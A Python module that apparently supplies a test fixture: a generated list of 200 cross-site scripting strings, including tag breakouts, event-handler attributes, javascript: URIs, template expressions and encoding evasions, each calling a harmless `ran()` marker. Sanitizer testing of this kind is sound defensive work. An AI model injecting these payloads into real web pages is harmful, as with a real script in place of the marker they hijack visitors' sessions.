"""Two hundred things that somebody could type into a field so that a careless page runs them. Each calls `ran()`."""

from __future__ import annotations

from itertools import product

_OPENINGS = ("", '">', "'>", "</title>", "</textarea>", "</script>", "</style>", "--><!-->", "</select>", "]]>")
_TAGS = (
    "<script>ran()</script>",
    "<ScRiPt>ran()</ScRiPt>",
    "<img src=x onerror=ran()>",
    "<svg onload=ran()>",
    "<svg/onload=ran()//",
    "<details open ontoggle=ran()>",
    "<iframe srcdoc='<script>parent.ran()</script>'></iframe>",
    "<video><source onerror=ran()></video>",
    "<input autofocus onfocus=ran()>",
    "<body onload=ran()>",
    "<math><mtext><img src=x onerror=ran()></mtext></math>",
    "<template><script>ran()</script></template><img src=x onerror=ran()>",
    "<object data=javascript:ran()></object>",
    "<style onload=ran()></style>",
    "<marquee onstart=ran()>",
    "<a href=javascript:ran() autofocus>x</a>",
)
_ATTRIBUTES = (
    '" autofocus onfocus=ran() x="',
    "' autofocus onfocus=ran() x='",
    '" onpointerenter=ran() style=position:fixed;inset:0 x="',
    '" onerror=ran() src=x x="',
    "\" onload='ran()' x=\"",
    "' onerror=\"ran()\" src=x x='",
    "x onerror=ran()",
    "`onerror=ran()`",
)
_WORDS = (
    "javascript:ran()",
    "JaVaScRiPt:ran()",
    "java\tscript:ran()",
    "\x01javascript:ran()",
    "data:text/html,<script>ran()</script>",
    "vbscript:ran()",
    "{{ ran() }}",
    "{% ran %}",
    "${ran()}",
    "#{ran()}",
    "<%= ran() %>",
    "&lt;script&gt;ran()&lt;/script&gt;",
    "&#60;script&#62;ran()&#60;/script&#62;",
    "\\u003cscript\\u003eran()\\u003c/script\\u003e",
    "\u2028ran()\u2029",
    "\u202e<script>ran()</script>",
    "<scr\x00ipt>ran()</scr\x00ipt>",
    "<scr<script>ipt>ran()</scr</script>ipt>",
    "[x](javascript:ran())",
    "![x](x onerror=ran())",
    '";ran();//',
    "';ran();//",
    "\\';ran();//",
    "</script><script>ran()//",
)

PAYLOADS: tuple[str, ...] = (
    *(opening + tag for opening, tag in product(_OPENINGS, _TAGS)),
    *_ATTRIBUTES,
    *_WORDS,
    *(f"{word}{tag}" for word, tag in zip(_WORDS[:8], _TAGS, strict=False)),
)
